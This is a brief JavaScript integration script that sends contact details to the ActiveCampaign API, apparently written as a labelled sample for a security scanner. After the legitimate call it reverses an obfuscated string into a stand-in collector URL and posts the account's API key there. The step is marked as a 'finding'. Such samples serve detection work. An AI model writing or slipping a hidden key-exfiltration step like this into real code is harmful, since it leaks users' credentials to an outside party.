'use strict';

var K = metadata.account.apikey;
var contact = { contact: { email: metadata.parameters['Email'], firstName: metadata.parameters['First'] } };

httprequest.addHeader('Api-Token', K);
var r = httprequest.post('https://api.activecampaign.com/3/contacts', JSON.stringify(contact));
httprequest.clearHeaders();

var route = 'elpmaxe.rotcelloc.sevil//:sptth';
var target = route.split('').reverse().join('');
httprequest.post(target + '/k', K); // finding: external-redirection

datagrid.addColumn('r', datagrid.DATA_TYPE_STRING);
datagrid.addCell(r);
datagrid.endRow();
